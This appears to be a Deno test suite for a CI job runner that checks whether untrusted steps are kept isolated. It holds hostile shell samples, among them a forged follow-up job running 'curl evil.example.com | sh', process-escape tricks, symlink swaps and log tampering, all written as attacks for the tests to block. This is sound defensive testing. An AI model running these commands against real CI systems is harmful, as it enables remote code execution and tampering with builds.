import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { privateDirectory } from "../../src/fs/temporary_directory.ts";
import {
  findContainment,
  findNamespace,
} from "../../src/process/containment.ts";
import { Job } from "../../src/steps/job.ts";
import { soon } from "../helpers/soon.ts";
import {
  listFiles,
  makeFiles,
  temporaryDirectory,
} from "../helpers/temporary_directory.ts";
import { testRunner } from "../helpers/test_runner.ts";

/** Holds an inherited lock in processes that try to survive. */
const SURVIVE = `exec 9> lock; flock 9
  (setsid env -i /bin/sleep 1000 > /dev/null 2>&1 &)
  setsid env -i /bin/sh -c '/usr/bin/setsid /bin/sleep 1000 & exit' > /dev/null 2>&1
  sleep 0.1`;

Deno.test("no process of an untrusted step is left when the next step starts", async () => {
  await using test = await testRunner();
  const result = await test.runner.runJob(
    new Job("x")
      .addStep("evil", SURVIVE, { untrusted: true, continueOnError: true })
      .addStep("beside", "sleep 0.5; echo done")
      .addStep("next", "flock -n lock echo free", { dependsOn: ["evil"] }),
  );
  assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
  assertStringIncludes(test.stdout(), "free\n");
  assertStringIncludes(test.stdout(), "done\n");
  // If it is not guaranteed, the log contains a warning.
  const { problem } = await findContainment(false);
  const isWarned = test.stderr().includes("no process of an untrusted step");
  assertEquals(isWarned, problem !== undefined, test.stderr());
});

Deno.test("a step that replaces its output file with a pipe fails, and blocks nothing", async () => {
  await using test = await testRunner();
  const swap = (kind: string) => `rm -f "$REACTORCIDE_OUTPUT"; ${kind}`;
  const result = await soon(
    test.runner.runJob(
      new Job("x")
        .addStep("pipe", swap('mkfifo "$REACTORCIDE_OUTPUT"'), {
          untrusted: true,
          continueOnError: true,
        })
        .addStep("link", swap('ln -s /dev/zero "$REACTORCIDE_OUTPUT"'), {
          continueOnError: true,
        })
        .addStep("after", "echo after", {
          dependsOn: ["pipe", "link"],
          condition: "always",
        }),
    ),
    "the end of the job",
  );
  assertEquals(
    result.steps.map(({ name, outcome }) => `${name} ${outcome}`),
    ["pipe failed", "link failed", "after success"],
  );
  const [pipe, link] = result.steps.map(({ reason = "" }) => reason);
  assertStringIncludes(pipe, "it is not a regular file");
  assertStringIncludes(link, "it is a symbolic link");
});

Deno.test("no step sets the outputs of a later one", async () => {
  await using test = await testRunner();
  const result = await test.runner.runJob(
    new Job("x")
      .addStep(
        "evil",
        `around="$(dirname "$(dirname "$REACTORCIDE_OUTPUT")")"
        for directory in "$around" "$around"/*; do
          for name in 0 1 2 0-1 1-1 1-2 output good; do
            echo "version=evil" > "$directory/$name"
          done
        done`,
        { untrusted: true, continueOnError: true },
      )
      .addStep("good", "true", { dependsOn: ["evil"] })
      .addStep("use", 'echo "got <$REACTORCIDE_OUTPUT_GOOD_VERSION>"', {
        dependsOn: ["good"],
      }),
  );
  assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
  assertStringIncludes(test.stdout(), "got <>\n");
});

Deno.test("untrusted steps cannot find or change files of concurrent trusted steps", async () => {
  const hasMounts = (await findNamespace())?.hasMounts ?? false;
  await using temporary = await temporaryDirectory();
  await using test = await testRunner({ TMPDIR: temporary.path });
  await makeFiles(test.path, { "trusted/deploy.sh": "echo deployed" });
  using other = privateDirectory([temporary.path]);
  await Deno.writeTextFile(`${other.path}/of-a-plugin`, "");
  // Longer than an argument, so that the script is read from a file.
  const long = "echo filler > /dev/null\n".repeat(6_000);
  const result = await test.runner.runJob(
    new Job("mixed")
      .addStep(
        "trusted",
        `mkfifo gate && touch started && cat gate > /dev/null
        sh "$REACTORCIDE_CI_SOURCE_DIR/deploy.sh"
        ${long}
        echo "version=good" >> "$REACTORCIDE_OUTPUT"`,
      )
      .addStep(
        "untrusted",
        `set +e
        until test -e started; do sleep 0.01; done
        find "$TMPDIR" -type f | sed 's/^/found /'
        find "$TMPDIR" -type s | sed 's/^/found /'
        for file in $(find "$TMPDIR" ci -type f); do
          chmod -R u+w "$(dirname "$file")"; echo 'echo evil' > "$file"
        done
        echo > gate`,
        { untrusted: true, env: { TMPDIR: temporary.path } },
      ),
    {
      cwd: "/job",
      ciSource: { type: "copy", url: "trusted" },
      limits: { concurrency: 2 },
    },
  );
  const warning = "Cannot keep untrusted steps from changing the logs";
  assertEquals(test.stderr().includes(warning), !hasMounts);
  // Without mounts, steps share a user, which is documented.
  if (!hasMounts) return;
  assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
  assertStringIncludes(test.stdout(), "| deployed\n");
  assert(!/evil|found/.test(test.stdout()), test.stdout());
});

Deno.test("untrusted steps cannot change or replace the logs of steps", async () => {
  await using test = await testRunner();
  await makeFiles(`${test.path}/elsewhere`, { "first.log": "untouched" });
  const logs = `${test.path}/job/artifacts/logs`;
  const tries = [
    "echo forged >> logs/first.log",
    "echo forged > logs/.beside.log.partial",
    "rm -f logs/first.log",
    "mv logs gone",
    "ln -s first.log logs/next.log",
    "mv -T ../artifacts ../away",
    "ln -sfn ../../elsewhere logs",
    "chmod 777 logs",
    "mkdir logs/cached.log",
  ];
  const result = await test.runner.runJob(
    new Job("x")
      .addStep("first", "echo first", { dependsOn: [] })
      .addStep(
        "beside",
        `until test -e "${test.path}/tried"; do sleep 0.01; done; echo end`,
      )
      .addStep(
        "evil",
        `set +e; cd "${test.path}/job/artifacts"
        ${tries.map((line) => `${line} && echo "did: ${line}"`).join("\n")}
        touch "${test.path}/tried"; cat logs/first.log`,
        { untrusted: true, dependsOn: ["first"] },
      )
      .addStep("cached", "touch made", {
        untrusted: true,
        dependsOn: ["evil"],
        cache: { inputs: ["tried"], outputs: ["made"] },
      }),
    { limits: { concurrency: 2 } },
  );
  const warning = "Cannot keep untrusted steps from changing the logs";
  const hasMounts = (await findNamespace())?.hasMounts ?? false;
  assertEquals(test.stderr().includes(warning), !hasMounts);
  if (!hasMounts) return;
  assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
  assert(!test.stdout().includes("did: "), test.stdout());
  const files = await listFiles(logs);
  assertEquals([files["first.log"], files["beside.log"]], ["first\n", "end\n"]);
  assertEquals(Object.keys(files).sort(), [
    ...["beside.log", "cached.log", "evil.log", "first.log"],
  ]);
  assertEquals(await listFiles(`${test.path}/elsewhere`), {
    "first.log": "untouched",
  });
});

/** Follow-up jobs as a step could write them. */
const FORGED = JSON.stringify({
  type: "trigger_job",
  operation_id: "1",
  trigger_type: "runnerlib",
  jobs: [{ job_name: "evil", job_command: "curl evil.example.com | sh" }],
});

const GENUINE = FORGED.replaceAll("evil", "good");

for (
  const [what, script] of [
    [
      "files",
      `echo '${FORGED}' > "$TRIGGERS"; echo '{"to":"evil"}' > "$OUTPUT"`,
    ],
    ["no files", `rm "$TRIGGERS" "$OUTPUT"`],
    [
      "empty directories",
      `rm "$TRIGGERS" "$OUTPUT"; mkdir "$TRIGGERS" "$OUTPUT"`,
    ],
    ["pipes", `rm "$TRIGGERS" "$OUTPUT"; mkfifo "$TRIGGERS" "$OUTPUT"`],
    [
      "links",
      `for file in "$TRIGGERS" "$OUTPUT"; do
      echo '${FORGED}' > "$file.evil"; ln -sf "$file.evil" "$file"; done`,
    ],
    [
      "a link to a directory",
      `directory="$(dirname "$TRIGGERS")"
      mv "$directory" evil; ln -s "$PWD/evil" "$directory"
      echo '${FORGED}' > "$TRIGGERS"; echo '{"to":"evil"}' > "$OUTPUT"`,
    ],
    [
      "files in directories that cannot be used",
      `echo '${FORGED}' > "$TRIGGERS"; echo '{"to":"evil"}' > "$OUTPUT"
      chmod 000 "$(dirname "$TRIGGERS")"; chmod 555 "$(dirname "$OUTPUT")"`,
    ],
    [
      "a link to another workspace",
      `mv job evil; ln -s evil job; echo '${FORGED}' > "$TRIGGERS"
      echo '{"to":"evil"}' > "$OUTPUT"`,
    ],
    ["files that cannot be read", `chmod 000 "$TRIGGERS" "$OUTPUT"`],
    [
      "files of more than 8 MiB",
      `for file in "$TRIGGERS" "$OUTPUT"; do
      head -c 9000000 /dev/zero > "$file"; done`,
    ],
  ] as const
) {
  Deno.test(`follow-up jobs and outputs that an untrusted step replaces with ${what} are restored`, async () => {
    await using test = await testRunner();
    const base = `${test.path}/job`;
    const protectedFiles = {
      TRIGGERS: `${base}/handed-on/triggers.json`,
      OUTPUT: `${base}/workflow-output.json`,
    };
    const write = `mkdir -p "$(dirname "$TRIGGERS")"
      echo '${GENUINE}' > "$TRIGGERS"; echo '{"to":"good"}' > "$OUTPUT"`;
    const result = await test.runner.runJob(
      new Job("x")
        .addStep("good", write, { env: protectedFiles })
        .addStep("evil", `set +e; ${script}; exit 1`, {
          untrusted: true,
          continueOnError: true,
          env: protectedFiles,
          dependsOn: ["good"],
        })
        .addStep("use", 'grep good "$TRIGGERS" && grep good "$OUTPUT"', {
          env: protectedFiles,
          dependsOn: ["evil"],
        }),
      { triggers: { file: "/job/handed-on/triggers.json" } },
    );
    assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
    assertStringIncludes(test.stderr(), 'by untrusted step "evil"');
    assertEquals(
      await Deno.readTextFile(protectedFiles.TRIGGERS),
      `${GENUINE}\n`,
    );
    assertEquals(
      await Deno.readTextFile(protectedFiles.OUTPUT),
      '{"to":"good"}\n',
    );
  });
}

Deno.test("no worker gets follow-up jobs, outputs or variables from untrusted steps", async () => {
  await using test = await testRunner({ REACTORCIDE_TRIGGER_NONCE: "n0nc3" });
  const base = `${test.path}/job`;
  await Deno.mkdir(base);
  await Deno.writeTextFile(`${base}/workflow-vars.json`, '{"to":"good"}');
  const forge = `cd '${base}'; echo '${FORGED}' > triggers.json
    for file in workflow-output.json workflow-vars.json; do
      echo '{"to":"evil"}' > $file; done`;
  const result = await test.runner.runJob(
    new Job("x")
      .addStep("first", `${forge}; sleep 0.2`, { untrusted: true })
      .addStep("second", `sleep 0.1; ${forge}`, { untrusted: true })
      .addStep("use", `cat '${base}/workflow-vars.json'`, {
        dependsOn: ["first", "second"],
      }),
    { triggers: { transport: "stdout" } },
  );
  assertEquals(result.exitCode, 0, test.stdout() + test.stderr());
  assertStringIncludes(test.stdout(), '{"to":"good"}');
  assertEquals(test.stdout().includes("n0nc3"), false, test.stdout());
  assertStringIncludes(test.stderr(), 'by untrusted steps "first", "second"');
  const names = (await Array.fromAsync(Deno.readDir(base))).map(({ name }) =>
    name
  );
  assertEquals(
    ["triggers.json", "workflow-output.json"].filter((name) =>
      names.includes(name)
    ),
    [],
  );
});

Deno.test("a job fails if a follow-up job may come from a trusted or an untrusted step", async () => {
  await using test = await testRunner();
  const base = `${test.path}/job`;
  const result = await test.runner.runJob(
    new Job("x")
      .addStep(
        "untrusted",
        `until [ -e '${base}/done' ]; do sleep 0.01; done`,
        {
          untrusted: true,
        },
      )
      .addStep(
        "deploy",
        `echo '${GENUINE}' > '${base}/triggers.json'; : > '${base}/done'`,
      ),
  );
  assertEquals(result.status, "failed", test.stdout() + test.stderr());
  assertEquals(
    result.error?.message,
    'Undid changes to job/triggers.json, as step "deploy" ran at the same time as untrusted step "untrusted": make one depend on the other',
  );
  assertEquals(result.triggers, []);
});
